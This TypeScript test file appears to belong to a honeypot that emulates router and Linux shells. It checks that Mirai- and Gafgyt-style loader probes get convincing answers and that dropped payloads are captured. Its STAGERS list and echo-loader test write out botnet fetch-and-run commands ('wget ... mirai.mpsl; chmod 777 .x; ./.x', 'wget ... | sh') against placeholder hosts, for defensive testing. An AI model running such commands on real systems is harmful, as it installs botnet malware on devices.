import assert from "node:assert/strict";
import { test } from "node:test";
import { loadProfile } from "../../../persona/profile.ts";
import { settlePersona } from "../../../persona/settle.ts";
import { runShell } from "../../testing/run.ts";

/** What loaders of Mirai, Gafgyt and their kin do on a router, from asking to running what they dropped. */
function personaOf(name: string) {
  const loaded = loadProfile(name);
  assert.ok("profile" in loaded, name);
  return settlePersona(loaded.profile, { seed: new Uint8Array(32).fill(5), wallMs: Date.UTC(2026, 0, 15, 10, 30) });
}

const dlink = personaOf("dlink");
const openwrt = personaOf("openwrt");
const debian = personaOf("debian-12");

/** Lines typed one after the other in one shell. */
function dance(lines: readonly string[], persona = dlink) {
  return runShell(persona.machine.shell === "bash" ? "bash" : "sh", { persona, input: `${lines.join("\n")}\n` });
}

const QUESTIONS: readonly (readonly [line: string, answer: RegExp])[] = [
  ["/bin/busybox ECCHI", /ECCHI: applet not found/],
  ["/bin/busybox MIRAI", /MIRAI: applet not found/],
  ["/bin/busybox wget; /bin/busybox ECCHI", /ECCHI: applet not found/],
  ["/bin/busybox ps; /bin/busybox ECCHI", /PID[\s\S]*ECCHI: applet not found/],
  ["/bin/busybox cat /proc/mounts; /bin/busybox ECCHI", /^\S+ \/ (rootfs|squashfs|overlay)[\s\S]*ECCHI: applet not found/],
  ["cat /proc/mounts; /bin/busybox PEACH", /proc \/proc proc[\s\S]*PEACH: applet not found/],
  ["/bin/busybox cat /bin/echo | head -c 4; /bin/busybox ECCHI", /\x7fELF[\s\S]*ECCHI: applet not found/],
  ["cd /tmp || cd /var/run; /bin/busybox rm -rf .x; /bin/busybox ECCHI", /ECCHI: applet not found/],
];

for (const [line, answer] of QUESTIONS) {
  test(`a router answers ${line}`, () => {
    const { out, err } = runShell(line, { persona: dlink });
    assert.match(out + err, answer);
  });
}

test("enable, system, shell and sh fall through to a shell that goes on", () => {
  const { out, err } = dance(["enable", "system", "shell", "linuxshell", "sh", "/bin/busybox ECCHI"]);
  for (const word of ["system", "shell", "linuxshell"]) assert.match(err, new RegExp(`${word}: not found`));
  assert.match(out + err, /ECCHI: applet not found\n$/);
});

test("the machine of /bin/echo is the persona's", () => {
  for (const persona of [dlink, openwrt, debian]) {
    const { out } = runShell("cat /bin/echo | head -c 52", { persona });
    assert.equal(out.length, 52);
    assert.equal(out.slice(0, 4), "\x7fELF");
    const [low, high] = persona.machine.endian === "big" ? [19, 18] : [18, 19];
    assert.equal(out.charCodeAt(low) | (out.charCodeAt(high) << 8), persona.machine.elfMachine);
  }
});

/** A head that runs on the machine, as loaders echo it over. */
function elfHead(persona: typeof dlink): string {
  const little = persona.machine.endian === "little";
  const half = (value: number) => (little ? [value & 255, value >> 8] : [value >> 8, value & 255]);
  const bytes = [
    0x7f,
    0x45,
    0x4c,
    0x46,
    persona.machine.bits === "64" ? 2 : 1,
    little ? 1 : 2,
    1,
    0,
    0,
    0,
    0,
    0,
    0,
    0,
    0,
    0,
    ...half(2),
    ...half(persona.machine.elfMachine),
  ];
  return String.fromCharCode(...bytes);
}

function echoed(bytes: string): string {
  return Array.from(bytes, (byte) => `\\x${byte.charCodeAt(0).toString(16).padStart(2, "0")}`).join("");
}

for (const persona of [dlink, openwrt, debian]) {
  test(`${persona.name}: an echo loader drops its file byte by byte, runs it, and it is captured`, () => {
    const payload = elfHead(persona) + Array.from({ length: 300 }, (_, at) => String.fromCharCode((at * 7) & 255)).join("");
    const pieces = payload.match(/[\s\S]{1,64}/g) ?? [];
    const lines = pieces.map((piece, at) => `echo -ne '${echoed(piece)}' ${at === 0 ? ">" : ">>"} .drop`);
    const { err, peer, out } = dance(["cd /tmp", ...lines, "chmod 777 .drop", "./.drop loader; echo status $?", "rm -f .drop"], persona);
    assert.equal(err, "");
    assert.equal(out, "status 0\n");
    const kept = peer.captures.map(({ bytes }) => bytes.toString("latin1"));
    assert.ok(kept.includes(payload), `${kept.map((bytes) => bytes.length)}`);
  });
}

test("printf drops bytes too", () => {
  const { peer, system } = dance(["cd /tmp; printf '\\177ELF\\001\\002\\000x' > p; cat p > q"]);
  system.close();
  assert.ok(peer.captures.some(({ bytes }) => bytes.toString("latin1") === "\x7fELF\x01\x02\0x"));
});

const STAGERS: readonly (readonly [line: string, url: string, persona?: typeof dlink])[] = [
  ["wget http://198.51.100.9/bins/mirai.mpsl -O - > .x; chmod 777 .x; ./.x", "http://198.51.100.9/bins/mirai.mpsl"],
  ["/bin/busybox wget http://198.51.100.9:81/a.sh", "http://198.51.100.9:81/a.sh"],
  ["/bin/busybox tftp -g -l .x -r mirai.mpsl 198.51.100.9", "tftp://198.51.100.9/mirai.mpsl"],
  ["tftp -r a.sh -g 198.51.100.9", "tftp://198.51.100.9/a.sh"],
  ["busybox ftpget -v -u anonymous -p anonymous -P 21 198.51.100.9 f.sh f.sh", "ftp://anonymous@198.51.100.9/f.sh", debian],
  ["curl -O http://198.51.100.9/c.sh", "http://198.51.100.9/c.sh", debian],
  ["wget -q http://loader.badhost.net/w.sh -O- | sh", "http://loader.badhost.net/w.sh", debian],
  ["cd /tmp; wget http://198.51.100.9/m.sh", "http://198.51.100.9/m.sh", openwrt],
];

for (const [line, url, persona = dlink] of STAGERS) {
  test(`${persona.name}: ${line} is recorded, and nothing is fetched`, () => {
    const { peer } = runShell(line, { persona, forMs: 5_000_000 });
    const requests = peer.observations().flatMap((one) => (one.kind === "download.request" ? [one.fields] : []));
    assert.deepEqual(
      requests.map(({ url: asked, fetched }) => [Buffer.from(asked).toString(), fetched]),
      [[url, false]],
    );
  });
}

test("the same server dies the same way each time", () => {
  const once = runShell("wget -t1 -T3 http://192.0.2.77/x; echo $?", { persona: debian });
  const again = runShell("wget -t1 -T3 http://192.0.2.77/x; echo $?", { persona: debian });
  assert.equal(once.out, again.out);
});

test("busybox lists its applets and calls itself by their names", () => {
  const { out } = runShell("busybox --list", { persona: debian });
  assert.deepEqual(out.trim().split("\n"), debian.machine.busyboxApplets);
  assert.match(runShell("busybox", { persona: debian }).out, /^BusyBox v1\.35\.0[\s\S]*Currently defined functions:\n\t\[, \[\[, acpid/);
  assert.equal(runShell("busybox uname -m; busybox echo a", { persona: debian }).out, "x86_64\na\n");
  assert.equal(runShell("cp /bin/busybox /tmp/dvr; /tmp/dvr; echo $?", { persona: dlink }).out, "127\n");
});

test("busybox programs complain in busybox's words", () => {
  assert.equal(runShell("busybox id nosuch", { persona: debian }).err, "id: unknown user nosuch\n");
  assert.equal(runShell("busybox df /nope", { persona: debian }).err, "df: /nope: can't find mount point\n");
  assert.equal(runShell("busybox ping -c1 nope.invalid", { persona: debian }).err, "ping: bad address 'nope.invalid'\n");
  assert.match(
    runShell("busybox wget", { persona: debian }).err,
    /^BusyBox v1\.35\.0 \(Debian [^)]*\) multi-call binary\.\n\nUsage: wget \[-cqS\]/,
  );
  assert.match(runShell("busybox tftp", { persona: debian }).err, /Usage: tftp \[OPTIONS\] HOST \[PORT\]/);
});
